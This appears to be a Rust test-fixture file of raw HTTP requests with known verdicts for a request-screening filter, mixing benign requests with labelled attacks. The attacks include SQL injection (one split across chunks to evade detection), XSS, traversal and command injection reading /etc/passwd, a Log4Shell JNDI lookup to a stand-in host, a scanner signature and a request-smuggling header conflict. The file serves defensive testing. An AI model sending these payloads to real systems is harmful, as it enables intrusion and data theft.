//! Requests with a known verdict.

pub(crate) const GET: &[u8] =
    b"GET /index.html?lang=en HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n\r\n";

pub(crate) const POST: &[u8] = b"POST /cart HTTP/1.1\r\nHost: shop.example\r\n\
Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 22\r\n\r\nitem=42&comment=thanks";

pub(crate) const CHUNKED: &[u8] =
    b"POST /upload HTTP/1.1\r\nHost: shop.example\r\nContent-Type: text/plain\r\n\
Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n6;x=y\r\n world\r\n0\r\n\r\n";

pub(crate) const BENIGN: [&[u8]; 3] = [GET, POST, CHUNKED];

/// A request that the first tier finds suspicious, and no more.
pub(crate) const SUSPICIOUS: &[u8] = b"GET /login?next=http%3A%2F%2Flocalhost%3A8080%2Fcallback HTTP/1.1\r\n\
Host: shop.example\r\n\r\n";

/// A request of each family, by the name of the family.
pub(crate) const ATTACKS: [(&str, &[u8]); 8] = [
    (
        "sqli",
        b"GET /item?id=1%20UNION%20SELECT%20user,2%20FROM%20users-- HTTP/1.1\r\nHost: shop.example\r\n\r\n",
    ),
    (
        "xss",
        b"GET /search?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: shop.example\r\n\r\n",
    ),
    (
        "traversal",
        b"GET /../../../../etc/passwd HTTP/1.1\r\nHost: shop.example\r\n\r\n",
    ),
    (
        "cmdi",
        b"POST /ping HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\
Content-Length: 29\r\n\r\nhost=1.1.1.1;cat+/etc/passwd ",
    ),
    (
        "log4shell",
        b"GET / HTTP/1.1\r\nHost: shop.example\r\nX-Api: ${jndi:ldap://evil.example/a}\r\n\r\n",
    ),
    (
        "scanner",
        b"GET / HTTP/1.1\r\nHost: shop.example\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n",
    ),
    (
        "protocol",
        b"POST / HTTP/1.1\r\nHost: shop.example\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    ),
    (
        "sqli",
        b"POST /login HTTP/1.1\r\nHost: shop.example\r\nContent-Type: application/x-www-form-urlencoded\r\n\
Transfer-Encoding: chunked\r\n\r\n7\r\nuser=1'\r\n10\r\n UNION SELECT 1,\r\n7\r\n2 -- -x\r\n0\r\n\r\n",
    ),
];
